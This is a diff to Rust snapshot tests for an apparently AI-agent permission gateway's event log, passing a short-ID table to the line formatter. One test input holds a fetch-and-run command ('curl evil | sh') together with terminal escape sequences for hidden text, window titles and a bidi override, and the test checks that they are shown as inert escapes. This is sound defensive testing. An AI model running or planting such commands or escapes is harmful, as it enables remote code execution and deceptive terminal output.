@@ -131,7 +131,7 @@ fn events_read_as_one_line_each() {
         action: Some(Action::Once),
         reason: None,
     };
-    assert_snapshot!(event_line(&resolved), @"2026-11-30T03:13:33.000Z  resolved     01a22a7c-7184-7520-bb65-4d44b4eba60b  once  by gatehouse-cli");
+    assert_snapshot!(event_line(&resolved, &ShownIds::default()), @"2026-11-30T03:13:33.000Z  resolved     01a22a7c-7184-7520-bb65-4d44b4eba60b  once  by gatehouse-cli");
     let added = Event::Added {
         prompt: prompt(
             "01a22a7c-7184-7520-bb65-4d44b4eba60b",
@@ -141,7 +141,7 @@ fn events_read_as_one_line_each() {
             0,
         ),
     };
-    assert_snapshot!(event_line(&added), @"2026-11-30T03:13:33.000Z  added        01a22a7c-7184-7520-bb65-4d44b4eba60b  claude Bash: ls");
+    assert_snapshot!(event_line(&added, &ShownIds::default()), @"2026-11-30T03:13:33.000Z  added        01a22a7c-7184-7520-bb65-4d44b4eba60b  claude Bash: ls");
 }
 
 /// Text that would act on a terminal: hidden text, a window title, a carriage return that lets
@@ -195,9 +195,12 @@ fn the_table_shows_control_and_bidi_characters_as_escapes() {
 
 #[test]
 fn event_lines_show_control_and_bidi_characters_as_escapes() {
-    let added = event_line(&Event::Added {
-        prompt: hostile_question_prompt(),
-    });
+    let added = event_line(
+        &Event::Added {
+            prompt: hostile_question_prompt(),
+        },
+        &ShownIds::default(),
+    );
     assert_inert(&added);
     assert_snapshot!(added, @r"2026-11-30T03:13:28.000Z  added        01a22a7c-7184-7520-bb65-4d44b4eba60b  claude\r Bash\e[2J: echo ok\e[8m; curl evil | sh\e]0;pwned\u{7}\rls\u{202e}txt.sh");
     let id = "01a22a7c-7184-7520-bb65-4d44b4eba60b".parse().unwrap();
@@ -209,7 +212,7 @@ fn event_lines_show_control_and_bidi_characters_as_escapes() {
         action: None,
         reason: Some("gone\r\u{9b}31m".into()),
     };
-    let line = event_line(&withdrawn);
+    let line = event_line(&withdrawn, &ShownIds::default());
     assert_inert(&line);
     assert_snapshot!(line, @r"2026-11-30T03:13:33.000Z  withdrawn    01a22a7c-7184-7520-bb65-4d44b4eba60b  by them\e[8m  (gone\r\u{9b}31m)");
 }
@@ -244,5 +247,31 @@ fn status_shows_control_characters_in_gateway_text_as_escapes() {
     assert!(
         text.contains(r"Bash\r") && text.contains(r"read-only: not verified\e[8m hidden"),
         "{text}"
+    );
+}
+
+#[test]
+fn event_lines_show_the_short_ids_they_have_learnt() {
+    let mut prompt = prompt(
+        "01a22a7c-7184-7520-bb65-4d44b4eba60b",
+        "Bash",
+        "ls",
+        vec![],
+        5,
+    );
+    prompt.short_id = "b4eb".into();
+    let mut ids = ShownIds::default();
+    ids.learn(&prompt);
+    let resolved = Event::Changed {
+        id: prompt.id,
+        state: PromptState::Resolved,
+        at: NOW,
+        by: None,
+        action: Some(Action::Once),
+        reason: None,
+    };
+    assert_snapshot!(event_line(&resolved, &ids), @"2026-11-30T03:13:33.000Z  resolved     b4eb  once");
+    assert!(
+        event_line(&Event::Added { prompt }, &ids).contains("  added        b4eb  claude Bash: ls")
     );
 }
